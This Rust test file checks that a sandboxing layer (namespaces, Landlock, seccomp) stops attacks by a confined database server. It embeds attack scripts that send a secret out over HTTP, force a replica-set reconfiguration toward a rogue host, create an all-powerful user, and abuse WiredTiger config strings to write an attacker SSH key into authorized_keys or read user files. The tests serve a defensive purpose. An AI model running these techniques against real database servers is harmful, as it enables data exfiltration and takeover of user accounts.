//! Attacks on the user through the server. Without any layer of confinement each attack must
//! succeed, otherwise the test proves nothing. It must fail with all layers, and also with each
//! single layer left out.

use std::fs;
use std::io::Read;
use std::net::TcpListener;
use std::os::unix::net::UnixListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;
use std::time::Duration;

use crate::support::{Home, RunOutput, Scratch};

/// Counts the connections that reach it, until the test ends.
struct Listener {
    port: u16,
    socket: std::path::PathBuf,
    connections: Arc<AtomicUsize>,
}

impl Listener {
    fn new(folder: &Scratch) -> Self {
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = tcp.local_addr().unwrap().port();
        let socket = folder.path().join("other.sock");
        let unix = UnixListener::bind(&socket).unwrap();
        let connections = Arc::new(AtomicUsize::new(0));
        let (of_tcp, of_unix) = (Arc::clone(&connections), Arc::clone(&connections));
        thread::spawn(move || {
            for stream in tcp.incoming().flatten() {
                of_tcp.fetch_add(1, Ordering::SeqCst);
                let mut stream = stream;
                let _ = stream.set_read_timeout(Some(Duration::from_millis(200)));
                let _ = stream.read(&mut [0; 512]);
            }
        });
        thread::spawn(move || {
            for _ in unix.incoming().flatten() {
                of_unix.fetch_add(1, Ordering::SeqCst);
            }
        });
        Self {
            port,
            socket,
            connections,
        }
    }

    fn connections(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

/// Runs the attack on a new server, without the layers in `without`.
fn attack(script: &str, without: &str, args: &[&str]) -> RunOutput {
    let home = Home::new();
    let folder = Scratch::new();
    folder.write("attack.rhai", script);
    let mut command = home.command();
    command
        .args(["--quiet", "run", "--ephemeral", "attack.rhai", "--"])
        .args(args)
        .env("SEAWORTHY_SKIP_LAYERS", without)
        .current_dir(folder.path());
    let ran = RunOutput::from(command.output().unwrap());
    home.wait_until_empty();
    ran
}

const NO_LAYER: &str = "namespaces,landlock,seccomp";
const WITH_LAYERS: [&str; 4] = ["", "namespaces", "landlock", "seccomp"];

const HTTP: &str = r#"
try {
    client.admin.command(#{ httpClientRequest: 1, uri: `http://127.0.0.1:${args[0]}/?data=SECRET`, timeoutSecs: 2 });
} catch (err) { print(err.message); }
assert_eq(db.command(#{ ping: 1 }).ok, 1.0);
"#;

#[test]
fn a_server_sends_no_http_request() {
    let folder = Scratch::new();
    let listener = Listener::new(&folder);
    let port = listener.port.to_string();
    let ran = attack(HTTP, NO_LAYER, &[&port]);
    assert_eq!(ran.code, Some(0), "{}", ran.errors);
    assert_eq!(
        listener.connections(),
        1,
        "the attack must work: {}",
        ran.out
    );
    for without in WITH_LAYERS {
        let ran = attack(HTTP, without, &[&port]);
        assert_eq!(ran.code, Some(0), "without {without:?}: {}", ran.errors);
        assert!(ran.out.contains("Couldn't connect"), "{}", ran.out);
        assert_eq!(listener.connections(), 1, "without {without:?}");
    }
}

const MEMBER: &str = r#"
// This client does not connect to the other members of the set itself.
let server = connect(#{ direct_connection: true });
let config = server.admin.command(#{ replSetGetConfig: 1 }).config;
config.version += 1;
config.members.push(#{ _id: 1, host: args[0], votes: 0, priority: 0 });
try { server.admin.command(#{ replSetReconfig: config, force: true }); } catch (err) { print(err.message); }
sleep(1.5);
"#;

/// Returns the number of connections that the attack makes to a new listener.
fn connections(script: &str, without: &str, target: impl Fn(&Listener) -> String) -> usize {
    let folder = Scratch::new();
    let listener = Listener::new(&folder);
    attack(script, without, &[&target(&listener)]);
    listener.connections()
}

#[test]
fn a_server_reaches_no_other_host() {
    let host = |listener: &Listener| format!("127.0.0.1:{}", listener.port);
    assert!(
        connections(MEMBER, NO_LAYER, host) > 0,
        "the attack must work"
    );
    for without in WITH_LAYERS {
        assert_eq!(connections(MEMBER, without, host), 0, "without {without:?}");
    }
}

#[test]
fn a_server_reaches_no_socket_of_another_program() {
    let host = |listener: &Listener| listener.socket.to_str().unwrap().to_owned();
    assert!(
        connections(MEMBER, NO_LAYER, host) > 0,
        "the attack must work"
    );
    // Landlock forbids this from ABI 9. Before, only the namespaces do.
    for without in ["", "landlock", "seccomp"] {
        assert_eq!(connections(MEMBER, without, host), 0, "without {without:?}");
    }
}

const CURSOR: &str = r#"
let remote = #{
    shardId: "other", hostAndPort: args[0],
    cursorResponse: #{ ok: 1, cursor: #{ id: Int64(7), ns: "lessons.x", firstBatch: [] } },
};
try {
    db.x.insert_one(#{});
    db.x.aggregate([#{ "$mergeCursors": #{ remotes: [remote], nss: "lessons.x", allowPartialResults: false } }]).to_array();
} catch (err) { print(err.message); }
"#;

#[test]
fn a_server_reads_no_cursor_of_another_host() {
    let host = |listener: &Listener| format!("127.0.0.1:{}", listener.port);
    assert!(
        connections(CURSOR, NO_LAYER, host) > 0,
        "the attack must work"
    );
    for without in WITH_LAYERS {
        assert_eq!(connections(CURSOR, without, host), 0, "without {without:?}");
    }
}

const SET: &str = r#"
// Writing to `local` needs a special role, which root can create.
let everything = #{ resource: #{ anyResource: true }, actions: ["anyAction"] };
client.admin.create_role("everything", [everything], []);
client.admin.create_user("attacker", "made-up-by-an-attacker", ["everything"]);
// This client runs outside the confinement and would connect to the new member itself.
client.close();
let server = connect(#{ direct_connection: true, username: "attacker", password: "made-up-by-an-attacker", retry_writes: false });
let config = server.admin.command(#{ replSetGetConfig: 1 }).config;
config.version += 1;
config.members.push(#{ _id: 1, host: args[0], votes: 0, priority: 0 });
server.local.system.replset.replace_one(#{}, config);
try { server.admin.command(#{ shutdown: 1, force: true }); } catch (err) { print(err.kind); }
eventually(20, || { let answers = false; try { answers = server.ping() > 0.0; } catch { } answers });
sleep(1.5);
"#;

#[test]
fn a_restarted_server_reaches_no_other_host() {
    let host = |listener: &Listener| format!("127.0.0.1:{}", listener.port);
    assert!(connections(SET, NO_LAYER, host) > 0, "the attack must work");
    for without in WITH_LAYERS {
        assert_eq!(connections(SET, without, host), 0, "without {without:?}");
    }
}

const FILE: &str = r#"
let config = `type=file,block_compressor=none,source="file:${args[0]}"`;
try {
    let files = db.create_collection("files", #{ storage_engine: #{ wiredTiger: #{ configString: config } } });
    files.insert_one(#{ key: "ssh-ed25519 AAAA attacker" });
    client.admin.command(#{ fsync: 1 });
} catch (err) { print(err.message); }
"#;

#[test]
fn a_server_changes_no_file_of_the_user() {
    let folder = Scratch::new();
    let victim = folder.path().join("authorized_keys");
    let path = victim.to_str().unwrap();
    let ran = attack(FILE, NO_LAYER, &[path]);
    assert!(
        victim.exists(),
        "the attack must work: {} {}",
        ran.out,
        ran.errors
    );
    for without in WITH_LAYERS {
        fs::write(&victim, "ours").unwrap();
        let ran = attack(FILE, without, &[path]);
        assert_eq!(
            fs::read_to_string(&victim).unwrap(),
            "ours",
            "without {without:?}"
        );
        assert_ne!(ran.out, "", "without {without:?}: the attack met no error");
        fs::remove_file(&victim).unwrap();
        attack(FILE, without, &[path]);
        assert!(!victim.exists(), "without {without:?}");
    }
}

const READ: &str = r#"
let config = `type=file,huffman_value=utf8${args[0]}`;
try {
    db.create_collection("files", #{ storage_engine: #{ wiredTiger: #{ configString: config } } });
    print("read");
} catch (err) { print(err.message); }
"#;

#[test]
fn a_server_reads_no_file_of_the_user() {
    let folder = Scratch::new();
    let secret = folder.path().join("frequencies");
    // The format of WiredTiger: a byte and its frequency.
    fs::write(&secret, "0x61 10\n0x62 5\n").unwrap();
    let path = secret.to_str().unwrap();
    let ran = attack(READ, NO_LAYER, &[path]);
    assert_eq!(ran.out, "read\n", "the attack must work: {}", ran.errors);
    for without in WITH_LAYERS {
        let ran = attack(READ, without, &[path]);
        assert_ne!(ran.out, "read\n", "without {without:?}");
    }
}
